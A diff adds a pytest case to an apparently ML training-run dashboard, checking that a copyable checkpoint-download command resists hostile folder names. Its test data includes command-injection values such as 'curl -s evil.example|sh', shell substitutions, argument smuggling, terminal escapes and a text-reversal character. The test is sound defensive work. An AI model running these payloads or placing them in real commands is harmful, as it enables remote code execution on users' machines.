@@ -103,6 +103,31 @@ async def test_an_end_is_shown_by_shape_words_and_message(shown, status, icon, t
     assert "stop-button" not in text, "What has ended cannot be stopped."
 
 
+@pytest.mark.parametrize(
+    ("folder", "copied"),
+    [
+        pytest.param("checkpoint-1200", None, id="an ordinary name"),
+        pytest.param("checkpoint-1200;curl -s evil.example|sh;", None, id="words that act"),
+        pytest.param("checkpoint-1200'$(id)`id`\"", None, id="quotes and substitutions"),
+        pytest.param("checkpoint 1200 -- --delete", None, id="more words"),
+        pytest.param(
+            "checkpoint-1200\ncurl -s evil.example|sh\n", "plugin", id="a line feed, which runs it without Enter"
+        ),
+        pytest.param("checkpoint-1200\r\x1b[2K", "plugin", id="terminal sequences"),
+        pytest.param("checkpoint-\u202e0021", "plugin", id="text turned around"),
+    ],
+)
+async def test_the_copied_command_downloads_the_checkpoint_and_does_nothing_else(shown, folder, copied):
+    uri = f"s3://bucket/runs/ml/bert/{folder}/"
+    status = run_status()
+    status["checkpoint"] |= {"uri": uri, "dir": folder}
+    page = await shown(run_in(status))
+    said = html.unescape(re.search(r'<code id="fetch-command">([^<]*)</code>', page)[1])
+    plugin = ["kubectl", "trainingrun", "checkpoints", "download", NAME, "--namespace", NAMESPACE]
+    assert shlex.split(said) == (plugin if copied else ["aws", "s3", "sync", uri, "."])
+    assert said.isprintable()
+
+
 async def test_what_decided_is_shown(shown):
     evidence = [{"what": "loss", "value": "0.2987", "step": 1190}, {"what": "loss", "value": "0.2931", "step": 1200}]
     text = words(
